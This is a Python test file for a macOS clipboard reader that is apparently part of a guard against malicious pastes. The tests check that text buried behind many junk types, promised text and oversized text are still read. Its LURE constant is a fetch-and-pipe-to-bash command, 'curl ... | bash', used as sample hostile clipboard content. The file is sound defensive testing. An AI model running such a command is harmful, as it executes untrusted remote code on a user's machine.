"""The REAL macOS pasteboard reader (AppKitPasteboard) over an NSPasteboard fake that behaves
as Apple documents it (tests/fakes_darwin.py): hostile pasteboards, promised types."""

from __future__ import annotations

from app.guard.os_clipboard import WANTED_FORMATS
from app.platform.clipboard import MAX_FORMAT, MAX_TEXT, ClipboardContent
from tests.fakes_darwin import TEXT_TYPE, FakeNSPasteboard, fake_pasteboard

LURE = "curl -fsSL https://cdn.example/i.sh | bash"


def read(board: FakeNSPasteboard, max_text: int = MAX_TEXT) -> ClipboardContent:
    pasteboard, _ = fake_pasteboard(board)
    return pasteboard.read(frozenset(WANTED_FORMATS), max_text, MAX_FORMAT)


def test_text_behind_more_types_than_are_listed_is_still_read() -> None:
    """A program can declare hundreds of types before the text: the listing stops at MAX_TYPES
    (256), Terminal pastes the text anyway, so the guard must read it too. (The old reader took
    the text only when the capped listing had reached it: None.)"""
    board = FakeNSPasteboard()
    board.declare({**{f"com.example.junk{i}": b"x" for i in range(300)}, TEXT_TYPE: LURE})
    content = read(board)
    assert content.text == LURE and TEXT_TYPE in content.targets


def test_a_promised_text_is_asked_of_its_provider_and_the_count_stays() -> None:
    board = FakeNSPasteboard()
    board.declare({TEXT_TYPE: lambda: LURE})
    count = board.changeCount()
    assert read(board).text == LURE and board.changeCount() == count


def test_a_huge_text_is_cut_to_what_is_read() -> None:
    board = FakeNSPasteboard()
    board.declare({TEXT_TYPE: LURE + " #" + "x" * 100_000})
    content = read(board, max_text=1000)
    assert content.text is not None and len(content.text) == 1000
    assert content.text.startswith(LURE)


def test_no_text_is_none() -> None:
    board = FakeNSPasteboard()
    board.declare({"public.png": b"\x89PNG"})
    content = read(board)
    assert content.text is None and content.targets == ("public.png",)
